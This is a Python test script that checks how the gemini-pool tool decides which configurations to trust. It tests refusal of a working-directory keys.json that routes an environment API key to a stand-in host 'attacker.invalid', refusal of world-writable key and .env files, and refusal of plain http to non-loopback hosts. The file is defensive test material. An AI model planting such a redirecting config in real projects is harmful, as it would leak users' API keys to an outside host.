"""Which configurations gemini-pool trusts (SPEC §2, Trust).

- a keys.json in the working directory with an env: key and a base_url on a host that
  is neither Google's nor loopback is refused before any connection, with one line
  naming the file and the fix; the same file given with --config is used;
- a keys.json (or .env) that others can write is refused; a literal key in one that
  others can read is warned about, once;
- plain http:// to a host that is not loopback is refused before any connection,
  from keys.json or $GOOGLE_GEMINI_BASE_URL;
- a configuration from the working directory is named on stderr.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from seclib import BINARY, ConnectWatch, T, make_secret, one_line_error  # noqa: E402

t = T("security-config")
secret = make_secret("CWD")
home = os.path.join(t.dir, "home")
repo = os.path.join(t.dir, "cloned-repo")
os.makedirs(home)
os.makedirs(repo)
base_env = {k: v for k, v in os.environ.items()
            if not k.startswith(("GEMINI_POOL", "GOOGLE_GEMINI", "XDG_"))}
base_env.update({"HOME": home, "GEMINI_KEY_PROJECT_1": secret,
                 "GEMINI_POOL_STATE": os.path.join(t.dir, "state", "state.db")})


def write_config(path: str, doc: dict, mode: int = 0o600) -> None:
    with open(path, "w", encoding="utf-8") as f:
        json.dump(doc, f)
    os.chmod(path, mode)


def run(*args: str, cwd: str = repo, env: dict | None = None,
        stdin: bytes = b"") -> subprocess.CompletedProcess:
    return subprocess.run([BINARY, *args], cwd=cwd, env=env or base_env, input=stdin,
                          stdout=subprocess.PIPE, stderr=subprocess.PIPE, timeout=60)


def env_key_config(base_url: str) -> dict:
    return {"providers": {"gemini": {"keys": [{"id": "k", "api_key": "env:GEMINI_KEY_PROJECT_1"}]}},
            "base_url": base_url}


# ---- a cloned repository's keys.json would send an exported key elsewhere ----------
attacker = "https://attacker.invalid"
cwd_keys = os.path.join(repo, "keys.json")
write_config(cwd_keys, env_key_config(attacker), 0o644)
with ConnectWatch() as w:
    r = run("ask", "--task", "-", env=w.env(base_env), stdin=b"git diff output")
line = one_line_error(r)
t.check(r.returncode != 0 and line is not None and cwd_keys in line and "--config" in line
        and "attacker.invalid" in line and "GEMINI_KEY_PROJECT_1" in line,
        "./keys.json sending an env: key to attacker.invalid: refused in one line naming "
        "the file, the host and the fix", r)
t.check(w.connections == 0, f"... before any connection is attempted ({w.connections} seen)")
t.check(secret.encode() not in r.stderr + r.stdout, "... and the key is not shown")

with ConnectWatch() as w:
    r = run("ask", "--task", "hello", "--config", "keys.json", "--max-wait", "1",
            env=w.env(base_env))
t.check(w.connections > 0 and b"attacker.invalid" in w.first_bytes,
        "the same file with --config is used (the request goes to its base_url)",
        (w.connections, w.first_bytes[:80], r.stderr[-300:]))
r = run("status", "--config", "keys.json")
t.check(r.returncode == 0 and b"configuration:" not in r.stderr,
        "status --config keys.json works and says nothing about the configuration", r)

# A key from .env beside it is the directory's own: no refusal.  Google's host is fine.
write_config(cwd_keys, env_key_config("https://generativelanguage.googleapis.com"), 0o644)
r = run("status")
t.check(r.returncode == 0 and
        f"gemini-pool: configuration: {cwd_keys} (found in the current directory)".encode()
        in r.stderr, "a keys.json from the current directory is named on stderr", r)
write_config(cwd_keys, env_key_config("http://127.0.0.1:9"), 0o644)
r = run("status")
t.check(r.returncode == 0, "./keys.json with a loopback base_url is used", r)

# ---- owned by another user -------------------------------------------------------
if os.geteuid() == 0:
    write_config(cwd_keys, env_key_config("https://generativelanguage.googleapis.com"), 0o644)
    os.chown(cwd_keys, 65534, 65534)
    r = run("status")
    line = one_line_error(r)
    t.check(r.returncode != 0 and line is not None and "another user" in line
            and "--config" in line, "./keys.json owned by another user: refused", r)
    r = run("status", "--config", cwd_keys)
    t.check(r.returncode == 0, "... and used when given with --config", r)
    os.chown(cwd_keys, 0, 0)

# ---- writable or readable by others ----------------------------------------------
other = os.path.join(t.dir, "conf")
os.makedirs(other)
literal = make_secret("LIT")
path = os.path.join(other, "keys.json")
write_config(path, {"providers": {"gemini": {"keys": [{"id": "lit", "api_key": literal}]}}},
             0o666)
r = run("status", "--config", path)
line = one_line_error(r)
t.check(r.returncode != 0 and line is not None and path in line and "chmod go-w" in line,
        "keys.json mode 0666: refused with the chmod that fixes it", r)
os.chmod(path, 0o644)
r = run("status", "--config", path)
warnings = [x for x in r.stderr.decode().splitlines() if "warning" in x and "literal" in x]
t.check(r.returncode == 0 and len(warnings) == 1 and "chmod 600" in warnings[0],
        "keys.json mode 0644 with a literal key: used, warned once", r)
t.check(literal.encode() not in r.stderr + r.stdout, "... without showing the key")

env_path = os.path.join(other, ".env")
with open(env_path, "w") as f:
    f.write(f"GKP_DOTENV_KEY={make_secret('DOT')}\n")
os.chmod(env_path, 0o666)
write_config(path, {"providers": {"gemini": {"keys": [{"id": "d", "api_key": "env:GKP_DOTENV_KEY"}]}}})
r = run("status", "--config", path)
line = one_line_error(r)
t.check(r.returncode != 0 and line is not None and env_path in line and "chmod go-w" in line,
        ".env mode 0666: refused", r)
os.chmod(env_path, 0o600)
r = run("status", "--config", path)
t.check(r.returncode == 0, ".env mode 0600: used", r)

# ---- plain http to another machine -----------------------------------------------
write_config(path, env_key_config("http://pool-proxy.invalid:8080"))
with ConnectWatch() as w:
    r = run("ask", "--task", "x", "--config", path, "--max-wait", "1", env=w.env(base_env))
line = one_line_error(r)
t.check(r.returncode != 0 and line is not None and "http://" in line and "https://" in line
        and path in line, "base_url http:// to a non-loopback host: refused, one line", r)
t.check(w.connections == 0, f"... before any connection ({w.connections} seen)")
write_config(path, env_key_config("https://generativelanguage.googleapis.com"))
with ConnectWatch() as w:
    r = run("ask", "--task", "x", "--config", path, "--max-wait", "1",
            env=w.env({**base_env, "GOOGLE_GEMINI_BASE_URL": "http://10.1.2.3"}))
line = one_line_error(r)
t.check(r.returncode != 0 and line is not None and "GOOGLE_GEMINI_BASE_URL" in line,
        "$GOOGLE_GEMINI_BASE_URL http:// to a non-loopback host: refused", r)
t.check(w.connections == 0, f"... before any connection ({w.connections} seen)")
for url in ("http://127.0.0.1:9", "http://localhost:9", "http://[::1]:9"):
    r = run("status", "--config", path, env={**base_env, "GOOGLE_GEMINI_BASE_URL": url})
    t.check(r.returncode == 0, f"http:// to loopback ({url}) is allowed", r)

t.done()
